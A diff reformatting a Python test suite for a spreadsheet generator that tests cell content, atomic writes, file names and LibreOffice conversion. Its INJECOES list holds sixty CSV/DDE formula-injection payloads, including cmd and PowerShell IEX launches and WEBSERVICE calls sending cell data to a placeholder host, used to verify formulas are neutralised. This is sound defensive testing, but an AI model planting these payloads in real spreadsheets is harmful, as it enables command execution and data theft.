@@ -2,6 +2,7 @@
 
 Content, formula injection, control characters, atomic write and LibreOffice.
 """
+
 from __future__ import annotations
 
 import csv
@@ -12,9 +13,9 @@ import re
 import shutil
 import subprocess
 import zipfile
+from collections.abc import Sequence
 from datetime import datetime, timedelta, timezone
 from pathlib import Path
-from typing import Dict, List, Sequence, Tuple
 
 import openpyxl
 import pytest
@@ -31,25 +32,72 @@ CARGOS = ["Assessor Técnico", "Assistente Administrativo", "Gerente", "Superint
 LISTAS = {"siglas": SIGLAS, "cargos": CARGOS, "operacoes": list(OPERACOES)}
 LIMITE_LO = 300  # seconds for one LibreOffice conversion run
 
-INJECOES: List[str] = [
-    "=1+1", '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-    "\t=1", "\r=1", "=cmd|'/c calc'!A1", "=cmd|' /C notepad'!'A1'", '=DDE("cmd";"/C calc";"!A0")',
+INJECOES: list[str] = [
+    "=1+1",
+    '=HYPERLINK("http://x","y")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "=cmd|'/c calc'!A1",
+    "=cmd|' /C notepad'!'A1'",
+    '=DDE("cmd";"/C calc";"!A0")',
     "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-    "+2+5+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a")',
-    '=IMPORTRANGE("https://x/d/1","A1:B2")', '=IMAGE("http://x/a.png")',
-    '=WEBSERVICE("http://x/?"&A1)', '=FILTERXML(WEBSERVICE("http://x"),"//a")',
-    '=INDIRECT("A1")', "=SUM(A1:A10)", "=A1", "=1/0", "=NA()", "=#REF!", "#N/A", "#REF!",
-    "#DIV/0!", "#NAME?", "#VALUE!", "#NUM!", "#NULL!", "=cmd|'/c powershell IEX(wget x)'!A0",
-    "=rundll32|'URL.dll,OpenURL calc.exe'!A", '=CALL("Kernel32","WinExec","JJCJ","calc",0)',
-    '=EXEC("calc")', '=HYPERLINK("javascript:alert(1)")', "  =1+1", " +1", "\t\t=SUM(1,2)",
-    "\r\n=1+2", "\n=1+3", "\x00=1+4", "=1+5\x00", "'=1+6", "\uff1d1+7", '="a"&"b"', "=CHAR(65)",
-    "=TODAY()", "=NOW()", "=RAND()", "=ROW()", "+1", "-1", "@A1", "=-1", "==1", "=1+1;=2+2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=2+5+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+2+5+cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://x/?v=",CONCATENATE(A2:E2)),"//a")',
+    '=IMPORTRANGE("https://x/d/1","A1:B2")',
+    '=IMAGE("http://x/a.png")',
+    '=WEBSERVICE("http://x/?"&A1)',
+    '=FILTERXML(WEBSERVICE("http://x"),"//a")',
+    '=INDIRECT("A1")',
+    "=SUM(A1:A10)",
+    "=A1",
+    "=1/0",
+    "=NA()",
+    "=#REF!",
+    "#N/A",
+    "#REF!",
+    "#DIV/0!",
+    "#NAME?",
+    "#VALUE!",
+    "#NUM!",
+    "#NULL!",
+    "=cmd|'/c powershell IEX(wget x)'!A0",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    '=CALL("Kernel32","WinExec","JJCJ","calc",0)',
+    '=EXEC("calc")',
+    '=HYPERLINK("javascript:alert(1)")',
+    "  =1+1",
+    " +1",
+    "\t\t=SUM(1,2)",
+    "\r\n=1+2",
+    "\n=1+3",
+    "\x00=1+4",
+    "=1+5\x00",
+    "'=1+6",
+    "\uff1d1+7",
+    '="a"&"b"',
+    "=CHAR(65)",
+    "=TODAY()",
+    "=NOW()",
+    "=RAND()",
+    "=ROW()",
+    "+1",
+    "-1",
+    "@A1",
+    "=-1",
+    "==1",
+    "=1+1;=2+2",
     "-=1+1",
 ]
 
 
 # ---------------------------------------------------------------- test data
+
 
 def gerar_cpf(rng: random.Random, zero_inicial: bool = False) -> str:
     """A made-up CPF with valid check digits, masked (never a real person's)."""
@@ -79,9 +127,13 @@ def test_gerador_de_cpf_calcula_digitos_verificadores():
 def _valor_exemplo(tipo: Tipo, kind: str, rng: random.Random, i: int) -> str:
     """A plausible value for one field."""
     exemplos = {
-        "nome": f"Maria da Silva {chr(65 + i)}", "cpf": gerar_cpf(rng, zero_inicial=i == 0),
-        "email": f"maria.silva{i}@gmail.com", "sigla": SIGLAS[i % len(SIGLAS)],
-        "siglas": "GETIN, DIASS", "sigla_nova": f"NOVA{i}", "cargo": CARGOS[i % len(CARGOS)],
+        "nome": f"Maria da Silva {chr(65 + i)}",
+        "cpf": gerar_cpf(rng, zero_inicial=i == 0),
+        "email": f"maria.silva{i}@gmail.com",
+        "sigla": SIGLAS[i % len(SIGLAS)],
+        "siglas": "GETIN, DIASS",
+        "sigla_nova": f"NOVA{i}",
+        "cargo": CARGOS[i % len(CARGOS)],
         "processo": f"E:02000.000000303{i}/2020",
         "texto": "Processo anexado por engano ao principal.",
         "texto_curto": f"Núcleo de Testes {i}",
@@ -90,22 +142,29 @@ def _valor_exemplo(tipo: Tipo, kind: str, rng: random.Random, i: int) -> str:
     return exemplos[kind]
 
 
-def linha_exemplo(tipo: Tipo, rng: random.Random, i: int) -> Dict[str, str]:
+def linha_exemplo(tipo: Tipo, rng: random.Random, i: int) -> dict[str, str]:
     """One row with every field of ``tipo`` filled."""
     return {c.nome: _valor_exemplo(tipo, c.tipo, rng, i) for c in tipo.campos}
 
 
-def solicitacao(tipo: Tipo, numero: int, linhas: Sequence[Dict[str, str]],
-                criada_em: datetime = AGORA) -> Solicitacao:
+def solicitacao(
+    tipo: Tipo, numero: int, linhas: Sequence[dict[str, str]], criada_em: datetime = AGORA
+) -> Solicitacao:
     """A filed request of ``tipo``."""
     return Solicitacao(
-        protocolo=f"NTS-2026-{numero:06d}", tipo=tipo.chave, status="recebida", canal="telegram",
-        contato="123456", unidade="GETIN", criada_em=criada_em, prazo_em=prazo(criada_em, tipo),
+        protocolo=f"NTS-2026-{numero:06d}",
+        tipo=tipo.chave,
+        status="recebida",
+        canal="telegram",
+        contato="123456",
+        unidade="GETIN",
+        criada_em=criada_em,
+        prazo_em=prazo(criada_em, tipo),
         linhas=tuple(linhas),
     )
 
 
-def solicitacoes_exemplo(tipo: Tipo, quantas: int, seed: int = 7) -> List[Solicitacao]:
+def solicitacoes_exemplo(tipo: Tipo, quantas: int, seed: int = 7) -> list[Solicitacao]:
     """``quantas`` requests; multi-row kinds get two rows each."""
     rng = random.Random(seed)
     por_pedido = 2 if tipo.varias_linhas else 1
@@ -119,30 +178,41 @@ def solicitacoes_exemplo(tipo: Tipo, quantas: int, seed: int = 7) -> List[Solici
 def esperado(texto: str) -> str:
     """``texto`` as the spreadsheet must show it: C0/C1 controls but LF removed."""
     texto = texto.replace("\r\n", "\n")
-    return "".join(ch for ch in texto
-                   if ch == "\n" or not (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F))
+    return "".join(
+        ch for ch in texto if ch == "\n" or not (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F)
+    )
 
 
-def linhas_esperadas(tipo: Tipo, pedidos: Sequence[Solicitacao]) -> List[List[str]]:
+def linhas_esperadas(tipo: Tipo, pedidos: Sequence[Solicitacao]) -> list[list[str]]:
     """Expected data rows (Protocolo, fields..., Observações) as text."""
-    return [[p.protocolo, *(esperado(l.get(c.nome, "")) for c in tipo.campos),
-             esperado(l.get("observacoes", ""))]
-            for p in pedidos for l in p.linhas]
+    return [
+        [
+            p.protocolo,
+            *(esperado(l.get(c.nome, "")) for c in tipo.campos),
+            esperado(l.get("observacoes", "")),
+        ]
+        for p in pedidos
+        for l in p.linhas
+    ]
 
 
-def gerar(tipo: Tipo, pedidos: Sequence[Solicitacao], pasta: Path, nome: str = "p.xlsx",
-          listas=LISTAS) -> Path:
+def gerar(
+    tipo: Tipo, pedidos: Sequence[Solicitacao], pasta: Path, nome: str = "p.xlsx", listas=LISTAS
+) -> Path:
     return gerar_planilha(tipo, pedidos, pasta / nome, listas, agora=AGORA)
 
 
 # ---------------------------------------------------------------- inspection helpers
 
-def valores(ws, linhas: int, colunas: int) -> List[List[str]]:
-    return [["" if ws.cell(r, c).value is None else ws.cell(r, c).value
-             for c in range(1, colunas + 1)] for r in range(2, linhas + 2)]
+
+def valores(ws, linhas: int, colunas: int) -> list[list[str]]:
+    return [
+        ["" if ws.cell(r, c).value is None else ws.cell(r, c).value for c in range(1, colunas + 1)]
+        for r in range(2, linhas + 2)
+    ]
 
 
-def alvo_validacao(wb, dv) -> List[str]:
+def alvo_validacao(wb, dv) -> list[str]:
     """Values of the range a list validation references (must be on Listas)."""
     m = re.fullmatch(r"'?Listas'?!\$([A-Z]+)\$(\d+):\$([A-Z]+)\$(\d+)", dv.formula1)
     assert m, f"validation does not reference a Listas range: {dv.formula1!r}"
@@ -157,8 +227,11 @@ def sem_formulas(caminho: Path) -> None:
     for ws in wb.worksheets:
         for linha in ws.iter_rows():
             for celula in linha:
-                assert celula.data_type not in ("f", "e"), (ws.title, celula.coordinate,
-                                                            celula.value)
+                assert celula.data_type not in ("f", "e"), (
+                    ws.title,
+                    celula.coordinate,
+                    celula.value,
+                )
     with zipfile.ZipFile(caminho) as z:
         for nome in z.namelist():
             if nome.startswith("xl/worksheets/"):
@@ -173,6 +246,7 @@ def instrucoes(wb) -> str:
 
 
 # ---------------------------------------------------------------- content
+
 
 @pytest.mark.parametrize("quantas", [1, 3])
 @pytest.mark.parametrize("tipo", COM_PLANILHA, ids=lambda t: t.chave)
@@ -206,7 +280,7 @@ def test_planilha_de_cada_tipo(tmp_path, tipo, quantas):
     sem_formulas(caminho)
 
 
-def _confere_cpf(ws, tipo: Tipo, esperadas: List[List[str]]) -> None:
+def _confere_cpf(ws, tipo: Tipo, esperadas: list[list[str]]) -> None:
     nomes = [c.nome for c in tipo.campos]
     if "cpf" not in nomes:
         return
@@ -266,10 +340,13 @@ def test_prazo_de_48_horas_na_desanexacao(tmp_path):
     assert "até 17/03/2026 às 10:00 (48 horas)" in instrucoes(wb)
 
 
-@pytest.mark.parametrize("chave, trecho", [
-    ("lotacao", "Obrigatório em MUDAR; deixe em branco em ADICIONAR."),
-    ("remocao_usuario", "Obrigatório. Unidade(s) das quais o usuário deve ser desligado."),
-])
+@pytest.mark.parametrize(
+    "chave, trecho",
+    [
+        ("lotacao", "Obrigatório em MUDAR; deixe em branco em ADICIONAR."),
+        ("remocao_usuario", "Obrigatório. Unidade(s) das quais o usuário deve ser desligado."),
+    ],
+)
 def test_siglas_da_lotacao_dependem_da_operacao(tmp_path, chave, trecho):
     tipo = TIPOS[chave]
     texto = instrucoes(openpyxl.load_workbook(gerar(tipo, solicitacoes_exemplo(tipo, 1), tmp_path)))
@@ -289,21 +366,25 @@ def test_datas_no_horario_de_maceio(tmp_path):
 def test_observacoes_e_chaves_extras(tmp_path):
     tipo = TIPOS["cadastro_usuario"]
     linha = linha_exemplo(tipo, random.Random(3), 1)
-    linha["observacoes"] = ("E-mail Hotmail/Outlook mantido: o solicitante confirmou que não "
-                            "tem outro")
+    linha["observacoes"] = (
+        "E-mail Hotmail/Outlook mantido: o solicitante confirmou que não tem outro"
+    )
     linha["origem"] = "formulário"
     ws = openpyxl.load_workbook(gerar(tipo, [solicitacao(tipo, 9, [linha])], tmp_path)).active
     assert ws.cell(2, len(tipo.campos) + 2).value == (
         "E-mail Hotmail/Outlook mantido: o solicitante confirmou que não tem outro; "
-        "origem: formulário")
+        "origem: formulário"
+    )
 
 
 def test_remocao_sem_operacao_vira_remover_e_divide_planilha_com_lotacao(tmp_path):
     remocao, lotacao = TIPOS["remocao_usuario"], TIPOS["lotacao"]
     rng = random.Random(4)
     sem_operacao = {k: v for k, v in linha_exemplo(remocao, rng, 0).items() if k != "operacao"}
-    pedidos = [solicitacao(lotacao, 1, [linha_exemplo(lotacao, rng, 1)]),
-               solicitacao(remocao, 2, [sem_operacao])]
+    pedidos = [
+        solicitacao(lotacao, 1, [linha_exemplo(lotacao, rng, 1)]),
+        solicitacao(remocao, 2, [sem_operacao]),
+    ]
     ws = openpyxl.load_workbook(gerar(lotacao, pedidos, tmp_path)).active
     col = [c.nome for c in lotacao.campos].index("operacao") + 2
     assert [ws.cell(2, col).value, ws.cell(3, col).value] == ["ADICIONAR", "REMOVER"]
@@ -311,8 +392,7 @@ def test_remocao_sem_operacao_vira_remover_e_divide_planilha_com_lotacao(tmp_pat
 
 def test_lista_de_operacoes_tem_padrao(tmp_path):
     tipo = TIPOS["lotacao"]
-    caminho = gerar(tipo, solicitacoes_exemplo(tipo, 1), tmp_path,
-                    listas={"siglas": SIGLAS})
+    caminho = gerar(tipo, solicitacoes_exemplo(tipo, 1), tmp_path, listas={"siglas": SIGLAS})
     wb = openpyxl.load_workbook(caminho)
     alvos = [alvo_validacao(wb, dv) for dv in wb.active.data_validations.dataValidation]
     assert list(OPERACOES) in alvos
@@ -321,8 +401,12 @@ def test_lista_de_operacoes_tem_padrao(tmp_path):
 def test_listas_longas_e_com_virgulas_usam_faixa(tmp_path):
     tipo = TIPOS["cadastro_usuario"]
     cargos = [f"Cargo de número {i}, com vírgula e nome comprido" for i in range(400)]
-    caminho = gerar(tipo, solicitacoes_exemplo(tipo, 1), tmp_path,
-                    listas={"siglas": SIGLAS + ["GETIN"], "cargos": cargos})
+    caminho = gerar(
+        tipo,
+        solicitacoes_exemplo(tipo, 1),
+        tmp_path,
+        listas={"siglas": SIGLAS + ["GETIN"], "cargos": cargos},
+    )
     wb = openpyxl.load_workbook(caminho)
     alvos = [alvo_validacao(wb, dv) for dv in wb.active.data_validations.dataValidation]
     assert cargos in alvos and SIGLAS in alvos  # deduplicated, order kept
@@ -359,11 +443,12 @@ def test_modelo_em_branco(tmp_path):
 
 # ---------------------------------------------------------------- safety
 
+
 def test_sessenta_injecoes_distintas():
     assert len(INJECOES) == 60 and len(set(INJECOES)) == 60
 
 
-def _pedidos_injecao(tipo: Tipo) -> List[Solicitacao]:
+def _pedidos_injecao(tipo: Tipo) -> list[Solicitacao]:
     """Each payload in every field (and Observações) of one row; one row per payload."""
     linhas = [{**{c.nome: carga for c in tipo.campos}, "observacoes": carga} for carga in INJECOES]
     if tipo.varias_linhas:
@@ -405,8 +490,13 @@ def test_caracteres_de_controle_removidos(tmp_path):
     }
     ws = openpyxl.load_workbook(gerar(tipo, [solicitacao(tipo, 1, [linha])], tmp_path)).active
     assert [c.value for c in ws[2]] == [
-        "NTS-2026-000001", "E:02000.\n0000003030/2020", "E:02000.0000003031/2020",
-        "Motivo\ncom controles\nsegunda linha", "\nGETIN", "\n"]
+        "NTS-2026-000001",
+        "E:02000.\n0000003030/2020",
+        "E:02000.0000003031/2020",
+        "Motivo\ncom controles\nsegunda linha",
+        "\nGETIN",
+        "\n",
+    ]
     for celula in ws[2]:
         assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", celula.value)
 
@@ -420,6 +510,7 @@ def test_texto_longo_truncado_no_limite_do_excel(tmp_path):
 
 
 # ---------------------------------------------------------------- atomic write
+
 
 def _salvar_pela_metade(self: Workbook, arquivo) -> None:
     """Replacement for Workbook.save: writes half of the real file, then crashes."""
@@ -453,6 +544,7 @@ def test_interrupcao_tambem_limpa_o_temporario(tmp_path, monkeypatch):
     def interromper(self, arquivo):
         arquivo.write(b"PK\x03\x04")
         raise KeyboardInterrupt
+
     tipo = TIPOS["correcao_cargo"]
     monkeypatch.setattr(Workbook, "save", interromper)
     with pytest.raises(KeyboardInterrupt):
@@ -470,7 +562,7 @@ def test_falha_ao_renomear_nao_deixa_temporario(tmp_path):
 
 
 def test_fsync_antes_de_substituir(tmp_path, monkeypatch):
-    eventos: List[str] = []
+    eventos: list[str] = []
     fsync, replace = os.fsync, os.replace
     monkeypatch.setattr(os, "fsync", lambda fd: (eventos.append("fsync"), fsync(fd))[1])
     monkeypatch.setattr(os, "replace", lambda a, b: (eventos.append("replace"), replace(a, b))[1])
@@ -484,13 +576,24 @@ def test_fsync_antes_de_substituir(tmp_path, monkeypatch):
 
 # ---------------------------------------------------------------- file names
 
+
 def test_nome_arquivo():
     assert nome_arquivo("NTS-2026-000123") == "NTS-2026-000123.xlsx"
 
 
-@pytest.mark.parametrize("ruim", ["NTS-2026-123", "nts-2026-000123", "../NTS-2026-000123",
-                                  "NTS-2026-000123.xlsx", "NTS-2026-000123\n", "",
-                                  "NTS-\uff12\uff10\uff12\uff16-000123", "Maria da Silva"])
+@pytest.mark.parametrize(
+    "ruim",
+    [
+        "NTS-2026-123",
+        "nts-2026-000123",
+        "../NTS-2026-000123",
+        "NTS-2026-000123.xlsx",
+        "NTS-2026-000123\n",
+        "",
+        "NTS-\uff12\uff10\uff12\uff16-000123",
+        "Maria da Silva",
+    ],
+)
 def test_nome_arquivo_invalido(ruim):
     with pytest.raises(ValueError):
         nome_arquivo(ruim)
@@ -499,22 +602,29 @@ def test_nome_arquivo_invalido(ruim):
 def test_nome_exportacao():
     utc = datetime(2026, 3, 15, 13, 5, 9, tzinfo=timezone.utc)
     assert nome_exportacao("cadastro_usuario", utc) == (
-        "NTS-exportacao-cadastro_usuario-20260315-100509.xlsx")
-    for chave, agora in [("relato_erro", utc), ("nao_existe", utc),
-                         ("cadastro_usuario", datetime(2026, 3, 15))]:
+        "NTS-exportacao-cadastro_usuario-20260315-100509.xlsx"
+    )
+    for chave, agora in [
+        ("relato_erro", utc),
+        ("nao_existe", utc),
+        ("cadastro_usuario", datetime(2026, 3, 15)),
+    ]:
         with pytest.raises(ValueError):
             nome_exportacao(chave, agora)
 
 
 # ---------------------------------------------------------------- LibreOffice
 
+
 def _soffice() -> str:
     """Path of soffice; fails under CI=…, skips elsewhere."""
     caminho = shutil.which("soffice") or shutil.which("libreoffice")
     if caminho:
         return caminho
-    mensagem = ("LibreOffice (soffice) não encontrado: rode .ci/install-system-deps "
-                "(pacote Debian libreoffice-calc-nogui)")
+    mensagem = (
+        "LibreOffice (soffice) não encontrado: rode .ci/install-system-deps "
+        "(pacote Debian libreoffice-calc-nogui)"
+    )
     if os.environ.get("CI"):
         pytest.fail(mensagem)
     pytest.skip(mensagem)
@@ -528,31 +638,43 @@ def perfil_lo(tmp_path_factory) -> str:
 
 def converter_csv(soffice: str, perfil: str, arquivos: Sequence[Path], saida: Path) -> None:
     """Convert the first sheet of each file to UTF-8 CSV with headless LibreOffice."""
-    comando = [soffice, f"-env:UserInstallation={perfil}", "--headless", "--norestore",
-               "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
-               "--outdir", str(saida), *map(str, arquivos)]
+    comando = [
+        soffice,
+        f"-env:UserInstallation={perfil}",
+        "--headless",
+        "--norestore",
+        "--convert-to",
+        "csv:Text - txt - csv (StarCalc):44,34,76,1",
+        "--outdir",
+        str(saida),
+        *map(str, arquivos),
+    ]
     try:
-        r = subprocess.run(comando, capture_output=True, text=True, timeout=LIMITE_LO,
-                           stdin=subprocess.DEVNULL)
+        r = subprocess.run(
+            comando, capture_output=True, text=True, timeout=LIMITE_LO, stdin=subprocess.DEVNULL
+        )
     except subprocess.TimeoutExpired:
         pytest.fail(f"LibreOffice não terminou em {LIMITE_LO} s")
     assert r.returncode == 0, r.stdout + r.stderr
     assert "Error" not in r.stdout + r.stderr, r.stdout + r.stderr
 
 
-def ler_csv(caminho: Path) -> List[List[str]]:
+def ler_csv(caminho: Path) -> list[list[str]]:
     with caminho.open(encoding="utf-8", newline="") as f:
         return [linha for linha in csv.reader(f) if any(linha)]
 
 
 def test_libreoffice_abre_todas_as_planilhas(tmp_path, perfil_lo):
     soffice = _soffice()
-    casos: List[Tuple[Path, List[List[str]]]] = []
+    casos: list[tuple[Path, list[list[str]]]] = []
     for tipo in COM_PLANILHA:
-        for rotulo, pedidos, listas in [("normal", solicitacoes_exemplo(tipo, 3), LISTAS),
-                                        ("injecao", _pedidos_injecao(tipo), LISTAS_INJECAO)]:
-            caminho = gerar(tipo, pedidos, tmp_path / "xlsx", f"{tipo.chave}-{rotulo}.xlsx",
-                            listas=listas)
+        for rotulo, pedidos, listas in [
+            ("normal", solicitacoes_exemplo(tipo, 3), LISTAS),
+            ("injecao", _pedidos_injecao(tipo), LISTAS_INJECAO),
+        ]:
+            caminho = gerar(
+                tipo, pedidos, tmp_path / "xlsx", f"{tipo.chave}-{rotulo}.xlsx", listas=listas
+            )
             cabecalho = ["Protocolo", *(c.coluna for c in tipo.campos), "Observações"]
             casos.append((caminho, [cabecalho, *linhas_esperadas(tipo, pedidos)]))
     saida = tmp_path / "csv"
